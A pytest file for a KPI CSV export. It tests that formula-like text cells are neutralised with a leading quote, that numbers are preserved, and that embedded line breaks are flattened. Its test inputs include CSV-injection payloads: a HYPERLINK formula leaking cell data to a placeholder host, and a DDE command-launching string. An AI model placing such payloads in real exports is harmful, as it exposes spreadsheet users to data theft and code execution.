"""Export hardening: a text cell a spreadsheet would run as a formula is written as text in kpi.csv.

A funder opens kpi.csv in Excel; a cell starting with '=', '+', '-' or '@' would be evaluated
(CSV injection, e.g. =HYPERLINK to an attacker's site). Text cells get a leading quote; numbers,
negative ones included, stay numbers.
"""

from __future__ import annotations

import csv

import pytest

from orchestration.reporting.export import KPI_COLUMNS, neutralise_formula, write_kpi_csv


def kpi_row(**cells) -> dict:
    base = {"project_id": "uvas", "area": "ALL", "period": "2018-06", "kpi": "participants", "breakdown": "total",
            "group": "T", "value": 12, "numerator": 12, "denominator": None, "target": 350, "target_met": False,
            "suppressed": False}
    return base | cells


def read(path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("dangerous", [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")', "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "=1+1", "\t=1+1",
])
def test_a_text_cell_that_starts_like_a_formula_is_written_as_text_in_kpi_csv(tmp_path, dangerous):
    target = tmp_path / "kpi.csv"
    write_kpi_csv([kpi_row(area=dangerous, group=dangerous, kpi="participants")], target)
    (row,) = read(target)
    assert row["area"] == row["group"] == "'" + dangerous
    assert row["kpi"] == "participants"
    assert tuple(row) == KPI_COLUMNS


def test_numbers_stay_numbers_even_when_negative_and_plain_text_is_unchanged(tmp_path):
    target = tmp_path / "kpi.csv"
    write_kpi_csv([kpi_row(value=-0.25, numerator=-3, denominator=12.0, area="2361", group="ISCED_0_2")], target)
    (row,) = read(target)
    assert (row["value"], row["numerator"], row["denominator"]) == ("-0.25", "-3", "12")
    assert (row["area"], row["group"], row["suppressed"], row["target_met"]) == ("2361", "ISCED_0_2", "false", "false")


def test_a_quote_in_the_middle_or_an_ordinary_dash_later_is_left_alone():
    assert neutralise_formula("Östra Södertörn") == "Östra Södertörn"
    assert neutralise_formula("16-19") == "16-19"
    assert neutralise_formula("-") == "'-"
    assert neutralise_formula("") == ""


@pytest.mark.parametrize("broken", ["Ragunda\rkommun", "Ragunda\nkommun", "Ragunda\r\nkommun"])
def test_a_line_break_inside_a_text_cell_never_splits_the_row(tmp_path, broken):
    target = tmp_path / "kpi.csv"
    write_kpi_csv([kpi_row(area=broken), kpi_row(area="0136")], target)
    rows = read(target)
    assert [r["area"] for r in rows] == ["Ragunda kommun", "0136"]
    assert target.read_bytes().count(b"\n") == 3 and b"\r" not in target.read_bytes()
